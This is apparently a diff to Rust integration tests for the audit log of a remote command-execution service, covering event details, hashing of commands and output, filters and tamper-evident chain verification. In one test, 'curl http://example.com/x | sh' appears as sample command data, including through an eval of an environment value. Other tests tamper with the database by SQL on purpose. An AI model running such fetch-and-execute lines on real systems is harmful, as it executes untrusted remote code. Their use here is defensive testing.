@@ -4,11 +4,13 @@ use std::collections::{BTreeMap, BTreeSet};
 use std::time::Duration;
 
 use farhand_domain::audit::{Head, Row, seal};
+use farhand_domain::output::sha256;
+use farhand_domain::time::Timestamp;
 use farhand_tests::client::{PASSWORD, encoded, unique};
 use farhand_tests::instance::{change_d1, change_objects, delay_alarms};
 use farhand_tests::mail::{key_of, mails_to, reset_link};
 use farhand_tests::people::{COMMANDS, GROUPS, MEMBERSHIPS, NO_UUID, SERVERS, USERS, at, group_path, keys};
-use farhand_tests::{Api, Dice, Instance, Person, ScriptedAgent, Workspace, eventually, now};
+use farhand_tests::{Api, Dice, Events, Instance, Person, ScriptedAgent, Workspace, eventually, far_ahead, now};
 use futures_util::future;
 use serde_json::{Value, json};
 
@@ -188,6 +190,7 @@ async fn each_change_leaves_one_event_with_who_made_it() {
     assert_eq!(found.iter().map(short).collect::<Vec<_>>(), expected);
     let object = |action: &str| found.iter().rfind(|event| event["action"] == action).unwrap()["object"].clone();
     for (action, id, name) in [
+        ("workspace.create", &json!(workspace.slug), json!(workspace.slug)),
         ("api_token.create", &token["id"], json!("ci")),
         ("api_token.delete", &token["id"], json!("ci-2")),
         ("server.delete", &server["id"], json!("web-2")),
@@ -390,6 +393,7 @@ async fn a_command_is_told_of_from_its_request_to_its_end() {
     let done = run(json!({"line": line, "env": {"KEY": "confidential"}})).await;
     agent.next_command().await;
     agent.ack(id_of(&done)).await;
+    agent.chunk(id_of(&done), 0, "secret output").await;
     agent.fin(id_of(&done), 3, "secret output").await;
     agent.fin(id_of(&done), 0, "late").await;
     let killed = run(json!({"line": "sleep 100"})).await;
@@ -397,10 +401,10 @@ async fn a_command_is_told_of_from_its_request_to_its_end() {
     agent.ack(id_of(&killed)).await;
     admin.post(&format!("{}kill/", path_of(&killed)), &json!({})).await.expect(202);
     agent.fin(id_of(&killed), 143, "").await;
-    let cancelled = run(json!({"line": "id", "scheduled_at": "2099-01-01T00:00:00Z"})).await;
+    let cancelled = run(json!({"line": "id", "scheduled_at": far_ahead()})).await;
     admin.post(&format!("{}cancel/", path_of(&cancelled)), &json!({})).await.expect(200);
     admin.post(&format!("{}cancel/", path_of(&cancelled)), &json!({})).await.expect(200);
-    let left = run(json!({"line": "id", "scheduled_at": "2099-01-01T00:00:00Z"})).await;
+    let left = run(json!({"line": "id", "scheduled_at": far_ahead()})).await;
     admin.delete(&at(SERVERS, &server)).await.expect(204);
 
     let actions = ["command.create", "command.kill", "command.finish", "command.cancel"];
@@ -420,13 +424,21 @@ async fn a_command_is_told_of_from_its_request_to_its_end() {
         event["details"].clone()
     };
     let of_server = json!({"id": server["id"], "name": "web-1"});
+    let mut create = details(&done, "command.create");
+    let hmac = create["env_hmac"].take();
+    assert_eq!(hmac.as_str().map(str::len), Some(64), "{hmac}");
     assert_eq!(
-        details(&done, "command.create"),
-        json!({"server": of_server, "shell": "system", "line": "x".repeat(1_024), "username": "root", "groupname": "",
-            "scheduled_at": null})
+        create,
+        json!({"server": of_server, "shell": "system", "line": "x".repeat(1_024), "line_sha256": sha256(&line),
+            "line_length": 2_000, "username": "root", "groupname": "", "scheduled_at": null, "timeout": 1_800,
+            "env": ["KEY"], "env_total": 1, "env_hmac": null})
     );
     let finish = details(&done, "command.finish");
-    assert_eq!(finish, json!({"state": "failed", "exit_code": 3, "server": of_server}));
+    assert_eq!(
+        finish,
+        json!({"state": "failed", "exit_code": 3, "server": of_server, "output_bytes": 13,
+            "output_sha256": sha256("secret output")})
+    );
     assert!(details(&left, "command.cancel")["reason"].as_str().unwrap().contains("server was deleted"));
     let all = json!(found).to_string();
     assert!(!all.contains("confidential") && !all.contains("secret output"), "{all}");
@@ -443,29 +455,47 @@ async fn the_list_is_filtered_and_costs_what_it_shows() {
     }
     let alice = workspace.staff("alice").await;
     send(&alice, "POST", "/api/servers/", json!({"name": "web-1"})).await;
-    let all = events(&alice, EVENTS, &[]).await;
+    let plain = workspace.user("plain").await;
+    plain.post("/api/servers/", &json!({"name": "web-2"})).await.expect(403);
+    workspace.anonymous.log_in("plain", "not the password").await.expect(403);
+    let all = eventually("the two events that are written after the answers", || async {
+        let all = events(&alice, EVENTS, &[]).await;
+        (all.iter().filter(|event| event["outcome"] != "success").count() == 2).then_some(all)
+    })
+    .await;
     let mut times: Vec<_> = all.iter().map(|event| event["occurred_at"].as_str().unwrap()).collect();
     assert!(times.is_sorted(), "{times:?}");
     times.dedup();
     let middle = times[times.len() / 2].to_owned();
     let count = |test: &dyn Fn(&Value) -> bool| all.iter().filter(|event| test(event)).count();
     let text = |value: &Value| value.as_str().unwrap_or("").to_owned();
-    let object = text(&all.last().unwrap()["object"]["id"]);
-    let queries: [(&[(&str, String)], usize); 8] = [
+    let object = text(&all.iter().find(|event| event["action"] == "server.create").unwrap()["object"]["id"]);
+    let outcome = |name: &str| ("outcome", name.to_owned());
+    let with = |outcome: &str| count(&|event| event["outcome"] == outcome);
+    assert_eq!((with("failure"), with("denied")), (1, 1));
+    let queries: [(&[(&str, String)], usize); 13] = [
         (&[], all.len()),
         (&[("actor", "alice".into())], 2),
         (&[("action", "api_token.create".into())], 4),
         (&[("object", object.clone())], 1),
         (&[("actor", "boss".into()), ("action", "api_token.create".into())], 4),
         (&[("actor", "nobody".into())], 0),
+        (&[outcome("success")], with("success")),
+        (&[outcome("failure")], 1),
+        (&[outcome("denied")], 1),
+        (&[outcome("denied"), ("actor", "plain".into())], 1),
+        (&[outcome("denied"), ("actor", "alice".into())], 0),
         (&[("occurred_at__gte", middle.clone())], count(&|event| text(&event["occurred_at"]) >= middle)),
         (&[("occurred_at__lt", middle.clone())], count(&|event| text(&event["occurred_at"]) < middle)),
     ];
     for (query, expected) in queries {
         assert_eq!(events(&alice, EVENTS, query).await.len(), expected, "{query:?}");
     }
-    let bad = format!("{EVENTS}?occurred_at__gte=today&object=%00&page=x");
-    alice.get(&bad).await.expect_fields(400, &["object", "occurred_at__gte", "page"]);
+    let bad = format!("{EVENTS}?occurred_at__gte=today&object=%00&outcome=Denied&page=x");
+    alice.get(&bad).await.expect_fields(400, &["object", "occurred_at__gte", "outcome", "page"]);
+    for bad in ["", "denied,failure", "ok"] {
+        alice.get(&format!("{EVENTS}?outcome={bad}")).await.expect_fields(400, &["outcome"]);
+    }
     let other = Workspace::made_by(&instance.operator(), "other").await;
     let of_other = events(&other.admin, EVENTS, &[("object", object.clone())]).await;
     assert!(of_other.is_empty(), "{of_other:?}");
@@ -485,6 +515,8 @@ async fn the_list_is_filtered_and_costs_what_it_shows() {
         "&actor=alice".to_owned(),
         "&action=server.create".to_owned(),
         format!("&object={object}"),
+        "&outcome=denied".to_owned(),
+        "&outcome=failure".to_owned(),
         format!("&actor=alice&occurred_at__lt={}", encoded(&[("x", middle)]).split_once('=').unwrap().1),
     ];
     let mut before = Vec::new();
@@ -525,6 +557,41 @@ async fn with_chain() -> (Instance, tempfile::TempDir, Workspace, i64) {
     assert_eq!((sum("rows_written"), sum("d1_calls")), (2 * sealed, 2 * goes));
     assert!(sum("rows_read") <= SEALING_READS * sealed + 2 * goes, "{lines:?}");
     (instance, state, workspace, links)
+}
+
+/// A page of a verification reads its own links, two before it and one behind the end, however many there are.
+#[tokio::test]
+async fn a_verification_reads_only_the_links_that_it_looks_at() {
+    let (instance, _state, workspace, last) = with_chain().await;
+    let (admin, first) = (&workspace.admin, last - 2);
+    let read = async || {
+        let id = unique("verify");
+        let body = json!({"first_link": first});
+        let found = admin.send(admin.request("POST", VERIFY).header("X-Request-Id", &id).json(&body)).await.expect(200);
+        (found["first_broken"]["problem"].clone(), instance.logged(&id).await["rows_read"].as_u64().unwrap())
+    };
+    let (problem, short) = read().await;
+    assert_eq!(problem, Value::Null);
+    let id = "(SELECT id FROM workspaces WHERE slug = 'acme')";
+    let many = |link: &str| {
+        format!(
+            "INSERT INTO audit_events (id, workspace_id, occurred_at, actor_type, actor_name, action, outcome, details, link)
+             WITH RECURSIVE n (i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 2000)
+             SELECT '{link}' || i, {id}, '2026', 'user', 'many', 'x', 'success', '{{}}', {link} FROM n;
+             INSERT INTO audit_expired
+             WITH RECURSIVE n (i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 2000)
+             SELECT {id}, {link}, 1, 'x', 'x' FROM n WHERE true;"
+        )
+    };
+    instance.tamper_with_d1(&many("-i"));
+    let (problem, long) = read().await;
+    assert_eq!(problem, Value::Null);
+    // One more row of each table.
+    assert!(long <= short + 4, "{short} {long}");
+    instance.tamper_with_d1(&many(&format!("{last} + i")));
+    let (problem, beyond) = read().await;
+    assert_eq!(problem, "foreign");
+    assert!(beyond <= short + 8, "{short} {beyond}");
 }
 
 /// The rows of a workspace, sealed anew from the first on, as SQL, and the end of their chain.
@@ -620,7 +687,8 @@ async fn whoever_changes_the_log_underneath_is_found_out() {
     // A part is looked at by itself, and past the end there is nothing.
     for (first, links) in [(last - 1, 3), (last + 2, 0), (1 << 50, 0)] {
         let found = admin.post(VERIFY, &json!({"first_link": first})).await.expect(200);
-        let expected = json!({"valid": true, "links": links, "unsealed": 0, "first_broken": null, "next_link": null});
+        let expected = json!({"valid": true, "links": links, "unsealed": 0, "expired": 0, "first_broken": null,
+            "next_link": null});
         assert_eq!(found, expected, "from {first}");
     }
     admin.post(VERIFY, &json!({"first_link": 0})).await.expect_fields(400, &["first_link"]);
@@ -677,8 +745,8 @@ async fn a_crash_loses_no_event_and_seals_none_twice() {
             let mut made = Vec::new();
             let begun = tokio::time::Instant::now();
             while begun.elapsed() < until {
-                let body = json!({"name": format!("{round} {writer}"), "expires_at": null});
-                made.push(api.post(TOKENS, &body).await.expect(201)["id"].as_str().unwrap().to_owned());
+                let body = json!({"name": unique(&format!("group-{round}-{writer}"))});
+                made.push(api.post("/api/iam/groups/", &body).await.expect(201)["id"].to_string());
             }
             made
         }));
@@ -689,7 +757,7 @@ async fn a_crash_loses_no_event_and_seals_none_twice() {
         sealed(&workspace.admin.on(&instance.url), VERIFY).await;
     }
     let api = workspace.admin.on(&instance.url);
-    let found = events(&api, EVENTS, &[("action", "api_token.create".to_owned())]).await;
+    let found = events(&api, EVENTS, &[("action", "group.create".to_owned())]).await;
     let ids: BTreeSet<_> = found.iter().map(|event| event["object"]["id"].as_str().unwrap().to_owned()).collect();
     assert_eq!(ids.len(), found.len(), "each once");
     assert!(made.iter().all(|id| ids.contains(id)), "none is lost");
@@ -755,6 +823,271 @@ async fn logins_and_resets_are_told_of_in_the_workspace_that_has_them() {
     assert_eq!((told("user.request_reset", "success"), told("user.reset_password", "success")), (own.clone(), own));
 }
 
+#[tokio::test]
+async fn what_ran_can_be_compared() {
+    let workspace = Workspace::new().await;
+    let admin = &workspace.admin;
+    let server = workspace.server("web-1").await;
+    let mut agent = ScriptedAgent::announcing(&workspace, &server, "kill, replay, stdin, cwd").await;
+    let mut run = async |body: Value| {
+        let mut whole = json!({"server": "web-1", "username": "root"});
+        whole.as_object_mut().unwrap().extend(body.as_object().unwrap().clone());
+        let made = admin.post(COMMANDS, &whole).await.expect(201);
+        agent.next_command().await;
+        made
+    };
+    // Lines that differ only behind what is shown, and lines that differ only by their environment.
+    let long = |end: &str| json!({"line": format!("{}{end}", "#".repeat(1_100)), "timeout": 60});
+    let with_env = |value: &str| json!({"line": "eval \"$X\"", "env": {"X": value, "A": ""}});
+    let made = [
+        run(long("; harmless")).await,
+        run(long("; curl http://example.com/x | sh")).await,
+        run(with_env("date")).await,
+        run(with_env("curl http://example.com/x | sh")).await,
+        run(with_env("date")).await,
+        run(json!({"line": "cat", "stdin": "pässword\n", "cwd": "/srv/a b"})).await,
+        run(json!({"line": "cat", "stdin": ""})).await,
+    ];
+    let created = events_of(admin, &["command.create"], 7).await;
+    let details: Vec<_> = created.iter().map(|event| &event["details"]).collect();
+    assert_eq!(details[0]["line"], details[1]["line"]);
+    for (made, details) in made.iter().zip(&details) {
+        let line = made["line"].as_str().unwrap();
+        assert_eq!((&details["line_sha256"], &details["line_length"]), (&json!(sha256(line)), &json!(line.len())));
+    }
+    assert_eq!((&details[0]["timeout"], details[0].get("env")), (&json!(60), None));
+    assert_eq!((&details[2]["env"], &details[2]["env_total"]), (&json!(["A", "X"]), &json!(2)));
+    assert_eq!(details[2]["env_hmac"], details[4]["env_hmac"]);
+    assert_ne!(details[2]["env_hmac"], details[3]["env_hmac"]);
+    let inputs = |details: &Value| ["stdin_bytes", "stdin_sha256", "cwd"].map(|name| details.get(name).cloned());
+    let given = [json!(10), json!(sha256("pässword\n")), json!("/srv/a b")];
+    assert_eq!(inputs(details[5]), given.map(Some));
+    assert_eq!(inputs(details[6]), [Some(json!(0)), Some(json!(sha256(""))), None]);
+    assert_eq!(inputs(details[4]), [None, None, None]);
+    for value in ["date", "pässword"] {
+        assert!(!json!(created).to_string().contains(value), "{value}: values are not in it");
+    }
+
+    // The output that was kept, also when the end overtakes some of it.
+    let report = async |made: &Value, seq: u32, content: &str| agent.chunk(id_of(made), seq, content).await;
+    report(&made[0], 1, "two").await;
+    report(&made[0], 0, "one").await;
+    agent.fin(id_of(&made[0]), 0, "onetwo").await;
+    report(&made[1], 1, "two").await;
+    let fin = json!({"success": true, "elapsed_time": 1, "exit_code": 0, "chunks": 2});
+    agent.report(id_of(&made[1]), "fin", Some(&fin)).await.expect(204);
+    report(&made[1], 0, "one").await;
+    // A result is no proof of the output: chunks that come after it may differ. Without any chunk, it is the output.
+    agent.fin(id_of(&made[2]), 0, "onetwo").await;
+    report(&made[2], 0, "other!").await;
+    agent.fin(id_of(&made[3]), 0, "result").await;
+    let ended = events_of(admin, &["command.finish", "command.output"], 7).await;
+    let of = |made: &Value| -> Vec<_> {
+        ended.iter().filter(|event| event["object"]["id"] == made["id"]).map(|event| event["details"].clone()).collect()
+    };
+    let whole = (json!(6), json!(sha256("onetwo")));
+    let output = |details: &Value| (details["output_bytes"].clone(), details["output_sha256"].clone());
+    assert_eq!(of(&made[0]).iter().map(output).collect::<Vec<_>>(), std::slice::from_ref(&whole));
+    let nothing = (json!(null), json!(null));
+    assert_eq!(of(&made[1]).iter().map(output).collect::<Vec<_>>(), [nothing.clone(), whole]);
+    for (made, kept) in [(&made[2], "other!"), (&made[3], "result")] {
+        let expected = [nothing.clone(), (json!(6), json!(sha256(kept)))];
+        assert_eq!(of(made).iter().map(output).collect::<Vec<_>>(), expected, "{kept}");
+    }
+    sealed(admin, VERIFY).await;
+}
+
+/// Output that keeps coming after the end does not delay its hash for more than a minute. A command that gets stuck has the hash
+/// of what came until then.
+#[tokio::test]
+async fn the_hash_of_output_is_there_within_a_minute() {
+    let workspace = Workspace::new().await;
+    let admin = &workspace.admin;
+    let server = workspace.server("web-1").await;
+    let mut agent = ScriptedAgent::connect(&workspace, &server).await;
+    let mut made = Vec::new();
+    for _ in 0..2 {
+        made.push(admin.post(COMMANDS, &json!({"server": "web-1", "line": "id"})).await.expect(201));
+        agent.next_command().await;
+    }
+    let (late, silent) = (id_of(&made[0]), id_of(&made[1]));
+    agent.chunk(silent, 0, "kept").await;
+    agent.chunk(late, 0, "x").await;
+    let fin = json!({"success": true, "elapsed_time": 1, "exit_code": 0, "chunks": 1_000});
+    agent.report(late, "fin", Some(&fin)).await.expect(204);
+    let of = async |id: &str, action: &str| {
+        let query = [("object", id.to_owned()), ("action", action.to_owned())];
+        events(admin, EVENTS, &query).await.into_iter().next()
+    };
+    let began = std::time::Instant::now();
+    let mut seq = 1;
+    // Each chunk comes before the one before it is old enough for the output to count as complete.
+    let output = loop {
+        if let Some(event) = of(late, "command.output").await {
+            break event;
+        }
+        assert!(began.elapsed() < Duration::from_secs(100), "the hash is late");
+        agent.chunk(late, seq, "x").await;
+        seq += 1;
+        tokio::time::sleep(Duration::from_secs(3)).await;
+    };
+    let ended = admin.get(&path_of(&made[0])).await.expect(200);
+    let time = |value: &Value| Timestamp::parse(value.as_str().unwrap()).unwrap();
+    let waited = time(&output["occurred_at"]).seconds_since(time(&ended["handled_at"]));
+    assert!((59.0..80.0).contains(&waited), "{waited}");
+    let bytes = output["details"]["output_bytes"].as_u64().unwrap();
+    assert!((10..=u64::from(seq)).contains(&bytes), "{bytes} of {seq}");
+    assert_eq!(output["details"]["output_sha256"], sha256(&"x".repeat(bytes as usize)));
+    let stuck = eventually("the command to be stuck", || of(silent, "command.finish")).await;
+    assert_eq!((&stuck["details"]["state"], &stuck["details"]["output_bytes"]), (&json!("stuck"), &json!(4)));
+    assert_eq!(stuck["details"]["output_sha256"], sha256("kept"));
+}
+
+#[tokio::test]
+async fn an_agents_new_address_and_version_leave_an_event() {
+    let workspace = Workspace::new().await;
+    let admin = &workspace.admin;
+    let server = workspace.server("web-1").await;
+    let agent = workspace.anonymous.with(&farhand_tests::agents::credential(&server));
+    let connect = async |address: &str| {
+        ScriptedAgent::over(&agent.from_address(address), "/ws/servers/backhaul/").await.hang_up().await;
+        farhand_tests::agents::wait_until_connected(&workspace, server["id"].as_str().unwrap(), false).await;
+    };
+    let report = async |address: &str, version: &str| {
+        let agent = agent.from_address(address);
+        agent.send_json("PATCH", "/api/servers/servers/-/sync/", &json!({"version": version})).await.expect(200);
+    };
+    report("192.0.2.1", "1.0").await;
+    connect("192.0.2.1").await;
+    connect("192.0.2.1").await;
+    report("192.0.2.1", "1.0").await;
+    report("192.0.2.1", "1.1").await;
+    connect("192.0.2.1").await;
+    connect("198.51.100.7").await;
+    connect("198.51.100.7").await;
+    connect("192.0.2.1").await;
+    let found = events_of(admin, &["server.connect"], 4).await;
+    let told: Vec<_> = found.iter().map(|event| event["details"].clone()).collect();
+    assert_eq!(
+        told,
+        [
+            json!({"remote_ip": "192.0.2.1", "previous_remote_ip": null, "agent_version": "1.0"}),
+            json!({"remote_ip": "192.0.2.1", "agent_version": "1.1", "previous_agent_version": "1.0"}),
+            json!({"remote_ip": "198.51.100.7", "previous_remote_ip": "192.0.2.1", "agent_version": "1.1"}),
+            json!({"remote_ip": "192.0.2.1", "previous_remote_ip": "198.51.100.7", "agent_version": "1.1"}),
+        ]
+    );
+    for (event, address) in found.iter().zip(["192.0.2.1", "192.0.2.1", "198.51.100.7", "192.0.2.1"]) {
+        assert_eq!(short(event), "server.connect success web-1/agent_key");
+        assert_eq!((&event["remote_ip"], &event["object"]["id"]), (&json!(address), &server["id"]));
+    }
+    // An event too many would be there by the time that all are sealed.
+    sealed(admin, VERIFY).await;
+    events_of(admin, &["server.connect"], 4).await;
+}
+
+#[tokio::test]
+async fn reads_of_commands_leave_an_event_a_minute() {
+    let workspace = Workspace::new().await;
+    let server = workspace.server("web-1").await;
+    let mut agent = ScriptedAgent::connect(&workspace, &server).await;
+    let body = json!({"server": "web-1", "line": "id"});
+    let made = workspace.admin.post(COMMANDS, &body).await.expect(201);
+    agent.next_command().await;
+    agent.chunk(id_of(&made), 0, "x").await;
+    agent.fin(id_of(&made), 0, "x").await;
+    let session = workspace.session();
+    for _ in 0..3 {
+        for rest in ["", "chunks/"] {
+            workspace.admin.get(&format!("{}{rest}", path_of(&made))).await.expect(200);
+        }
+    }
+    session.get(&format!("{}chunks/", path_of(&made))).await.expect(200);
+    workspace.admin.get(COMMANDS).await.expect(200);
+    let read = events_of(&workspace.admin, &["command.read"], 2).await;
+    let mut who: Vec<_> = read.iter().map(short).collect();
+    who.sort();
+    assert_eq!(who, ["command.read success boss/api_token", "command.read success boss/session"]);
+    assert!(read.iter().all(|event| event["object"]["id"] == made["id"]), "{read:?}");
+
+    // Each way to read it counts, and is of its own credential here.
+    let mut tokens = BTreeMap::new();
+    for rest in ["", "chunks/", "output/", "stream/"] {
+        let token = session.post(TOKENS, &json!({"name": "reads", "expires_at": null})).await.expect(201);
+        let api = workspace.anonymous.with_token(token["key"].as_str().unwrap());
+        let path = format!("{}{rest}", path_of(&made));
+        match rest {
+            "stream/" => drop(Events::open(&api, &path).await.unwrap().rest().await),
+            _ => assert_eq!(api.get(&path).await.status, 200, "{path}"),
+        }
+        tokens.insert(token["id"].clone().as_str().unwrap().to_owned(), rest);
+    }
+    let read = events_of(&workspace.admin, &["command.read"], 6).await;
+    for event in &read[2..] {
+        tokens.remove(event["credential"]["id"].as_str().unwrap());
+    }
+    assert!(tokens.is_empty(), "not recorded: {tokens:?}");
+}
+
+#[tokio::test]
+async fn changes_of_limits_addresses_and_roles_are_told_with_what_was_before() {
+    let workspace = Workspace::new().await;
+    let admin = &workspace.admin;
+    let token = send(admin, "POST", TOKENS, json!({"name": "ci", "expires_at": null})).await;
+    let lists = [json!({"commands": ["uptime"]}), json!({"commands": ["ls *"], "read_only": false}), json!(null)];
+    for acl in &lists {
+        send(admin, "PATCH", &at(TOKENS, &token), json!({"acl": acl})).await;
+    }
+    let acl = json!({"commands": ["ls *"], "read_only": true});
+    send(admin, "POST", TOKENS, json!({"name": "limited", "expires_at": null, "acl": acl})).await;
+    let ann = json!({"username": "ann", "email": "ann@example.com", "password": PASSWORD});
+    let ann = send(admin, "POST", USERS, ann).await;
+    send(admin, "PATCH", &format!("{USERS}{}/", ann["id"]), json!({"email": "eve@example.com"})).await;
+    let group = send(admin, "POST", GROUPS, json!({"name": "ops"})).await;
+    let membership = json!({"group": group["id"], "user": ann["id"], "role": "member"});
+    let membership = send(admin, "POST", MEMBERSHIPS, membership).await;
+    send(admin, "PATCH", &at(MEMBERSHIPS, &membership), json!({"role": "owner"})).await;
+
+    let found = events_of(admin, &["api_token.update", "user.update", "membership.update"], 5).await;
+    let details: Vec<_> = found.iter().map(|event| &event["details"]).collect();
+    let commands = |details: &Value| details["acl"]["commands"].clone();
+    assert_eq!((commands(details[0]), &details[0]["old"]), (json!(["uptime"]), &json!({"acl": null})));
+    assert_eq!((commands(details[1]), commands(&details[1]["old"])), (json!(["ls *"]), json!(["uptime"])));
+    assert_eq!((&details[2]["acl"], commands(&details[2]["old"])), (&json!(null), json!(["ls *"])));
+    let (email, before) = (&details[3]["email"], &details[3]["old"]["email"]);
+    assert_eq!((email, before), (&json!("eve@example.com"), &json!("ann@example.com")));
+    assert_eq!((&details[4]["role"], &details[4]["old"]["role"]), (&json!("owner"), &json!("member")));
+    // And at the beginning, with what is there then.
+    let created = events(admin, EVENTS, &[("action", "api_token.create".to_owned())]).await;
+    let of = |name: &str| created.iter().find(|event| event["object"]["name"] == name).unwrap()["details"].clone();
+    assert_eq!(of("ci"), json!({"expires_at": null, "has_acl": false, "acl": null}));
+    let limited = of("limited");
+    assert_eq!((commands(&limited), &limited["acl"]["read_only"]), (json!(["ls *"]), &json!(true)));
+    // Of a long list, its hash and its length.
+    let acl = json!({"commands": ["x".repeat(16_000), "y".repeat(16_000)]});
+    let stored = acl.to_string();
+    let told = json!({"acl_sha256": farhand_domain::output::sha256(&stored), "acl_bytes": stored.len()});
+    let long = send(admin, "POST", TOKENS, json!({"name": "long", "expires_at": null, "acl": acl})).await;
+    for acl in [json!(null), acl] {
+        send(admin, "PATCH", &at(TOKENS, &long), json!({"acl": acl})).await;
+    }
+    let created = events(admin, EVENTS, &[("action", "api_token.create".to_owned())]).await;
+    let made = created.iter().find(|event| event["object"]["name"] == "long").unwrap();
+    let mut expected = json!({"expires_at": null, "has_acl": true});
+    expected.as_object_mut().unwrap().append(&mut told.as_object().unwrap().clone());
+    assert_eq!(made["details"], expected);
+    let of_long = [("action", "api_token.update".to_owned()), ("object", long["id"].as_str().unwrap().to_owned())];
+    let changed = events(admin, EVENTS, &of_long).await;
+    let (first, second) = (&changed[0]["details"], &changed[1]["details"]);
+    assert_eq!((&first["acl"], &first["old"]), (&json!(null), &json!({"acl_bytes": stored.len()})));
+    assert_eq!((&second["acl_sha256"], &second["old"]), (&told["acl_sha256"], &json!({"acl": null})));
+    assert!(second.get("acl").is_none(), "{second}");
+    let created = events(admin, EVENTS, &[("action", "user.create".to_owned())]).await;
+    let expected = json!({"email": "ann@example.com", "is_staff": false, "is_superuser": false});
+    assert_eq!(created.last().unwrap()["details"], expected);
+    sealed(admin, VERIFY).await;
+}
+
 /// A sealer whose alarm is late is told of what happens, and does not go on waiting for that alarm.
 #[tokio::test]
 async fn a_sealer_whose_alarm_is_late_seals_when_it_is_told() {
@@ -810,7 +1143,8 @@ async fn an_end_that_d1_hears_of_late_is_told_once() {
     drop(lock);
     let found = events_of(&workspace.admin, &["command.create", "command.finish"], 2).await;
     assert_eq!(found[1]["details"]["state"], "success");
-    assert_eq!(sealed(&workspace.admin, VERIFY).await, 6);
+    // One of them is that of the agent's connection.
+    assert_eq!(sealed(&workspace.admin, VERIFY).await, 7);
 }
 
 #[tokio::test]
@@ -824,7 +1158,7 @@ async fn the_operator_has_a_chain_that_outlives_workspaces() {
     sealed(&gone.admin, VERIFY).await;
     operator.post("/operator/workspaces/", &farhand_tests::client::new_workspace("kept")).await.expect(400);
     operator.delete("/operator/workspaces/nothing/").await.expect(404);
-    operator.delete("/operator/workspaces/gone/").await.expect(204);
+    operator.delete("/operator/workspaces/gone/?now=true").await.expect(204);
     let found = events(&operator, path, &[]).await;
     let told: Vec<_> = found.iter().map(|event| format!("{} {}", short(event), event["object"]["name"])).collect();
     assert_eq!(
@@ -896,4 +1230,188 @@ async fn old_events_go_and_the_rest_of_the_chain_stays() {
     assert_eq!(verify(&api, VERIFY).await["first_broken"]["problem"], "foreign");
     // The operator's own stay.
     assert_eq!(sealed(&instance.operator(), "/operator/audit/verify/").await, 1);
+}
+
+/// Strangers must not fill the log: of failed logins and reset requests, one event a minute says how many there were.
+#[tokio::test]
+async fn anonymous_events_are_written_once_a_minute_with_their_count() {
+    let (instance, state) = Instance::new().await;
+    let workspace = Workspace::made_by(&instance.operator(), "acme").await;
+    for _ in 0..3 {
+        for username in ["boss", "nobody-here", "nobody-else"] {
+            workspace.anonymous.log_in(username, "not the password").await.expect(403);
+        }
+    }
+    for email in ["a@example.com", "boss@example.com", "b@example.com"] {
+        workspace.anonymous.post("/api/auth/reset-password/", &json!({"email": email})).await.expect(200);
+    }
+    let written = async |api: &Api| {
+        let found = events(api, EVENTS, &[]).await;
+        let anonymous = found.into_iter().filter(|event| event["actor"]["type"] == "anonymous");
+        anonymous
+            .map(|event| {
+                (event["action"].to_string(), event["object"]["id"].clone(), event["details"]["count"].clone())
+            })
+            .collect::<Vec<_>>()
+    };
+    let boss = workspace.admin.get("/api/iam/users/-/").await.expect(200)["id"].to_string();
+    eventually("all to be counted", || async {
+        let rows = instance.d1("SELECT sum(pending) AS n FROM anonymous_events").await;
+        (rows[0]["n"] == 2 + 5 + 2).then_some(())
+    })
+    .await;
+    let mut first = written(&workspace.admin).await;
+    first.sort_by_key(|(action, object, _)| (action.clone(), object.to_string()));
+    let event = |action: &str, object: Value, count: u32| (json!(action).to_string(), object, json!(count));
+    let known = event("session.login", json!(boss), 1);
+    assert_eq!(first, [known, event("session.login", Value::Null, 1), event("user.request_reset", Value::Null, 1)]);
+
+    // A minute later the next one says how many there were since.
+    instance.d1("UPDATE anonymous_events SET written_at = '2020-01-01T00:00:00.000000+00:00'").await;
+    workspace.anonymous.log_in("boss", "not the password").await.expect(403);
+    eventually("its event", || async {
+        written(&workspace.admin).await.contains(&event("session.login", json!(boss), 3)).then_some(())
+    })
+    .await;
+    // If no further one comes, the clock writes it.
+    instance.stop().await;
+    let instance = Instance::restart(state.path()).await;
+    let admin = workspace.admin.on(&instance.url);
+    let all = eventually("the rest", || async {
+        let all = written(&admin).await;
+        (all.len() == 6).then_some(all)
+    })
+    .await;
+    assert!(all.contains(&event("session.login", Value::Null, 5)), "{all:?}");
+    let resets = events(&admin, EVENTS, &[("action", "user.request_reset".to_owned())]).await;
+    let counted = resets.iter().find(|event| event["details"]["count"] == 2).unwrap();
+    assert_eq!(counted["details"]["users"], json!([boss]));
+    sealed(&admin, VERIFY).await;
+}
+
+/// Old anonymous events leave the chain, which can still be verified; nothing else can be taken out of it in the same way.
+#[tokio::test]
+async fn old_anonymous_events_expire_and_others_cannot_be_made_to() {
+    let (instance, state) = Instance::new().await;
+    let workspace = Workspace::made_by(&instance.operator(), "acme").await;
+    let token = |name: &str| json!({"name": name, "expires_at": null});
+    let guess = async |username: &str| workspace.anonymous.log_in(username, "not the password").await.expect(403);
+    guess("boss").await;
+    send(&workspace.admin, "POST", TOKENS, token("between")).await;
+    guess("nobody-here").await;
+    let reset = json!({"email": "stranger@example.com"});
+    workspace.anonymous.post("/api/auth/reset-password/", &reset).await.expect(200);
+    send(&workspace.admin, "POST", TOKENS, token("last old one")).await;
+    instance.operator().with(&format!("Bearer {}", "x".repeat(40))).get("/operator/workspaces/").await.expect(403);
+    eventually("all events", || async {
+        let list = workspace.admin.get(EVENTS).await.expect(200);
+        let of_cell = instance.operator().get("/operator/audit/events/").await.expect(200);
+        (list["count"] == 8 && of_cell["count"] == 2).then_some(())
+    })
+    .await;
+    let old_links = sealed(&workspace.admin, VERIFY).await;
+    assert_eq!((old_links, sealed(&instance.operator(), "/operator/audit/verify/").await), (8, 2));
+    // All of them become ten days old, as if they had been sealed then.
+    let id = instance.read_d1("SELECT CAST(id AS TEXT) FROM workspaces WHERE slug = 'acme'")[0].parse::<i64>().unwrap();
+    let old = now().plus_seconds(-10 * 24 * 60 * 60);
+    instance.tamper_with_d1(&format!("UPDATE audit_events SET occurred_at = '{old}'"));
+    let chains = [(id, forged(&instance, id)), (0, forged(&instance, 0))];
+    instance.stop().await;
+    for (workspace, (sql, head)) in &chains {
+        change_d1(state.path(), sql);
+        let head = serde_json::to_string(head).unwrap();
+        let sql = format!("UPDATE chains SET head = '{head}' WHERE workspace = {workspace}");
+        assert_eq!(change_objects(state.path(), "Sealer", &sql), 1);
+    }
+
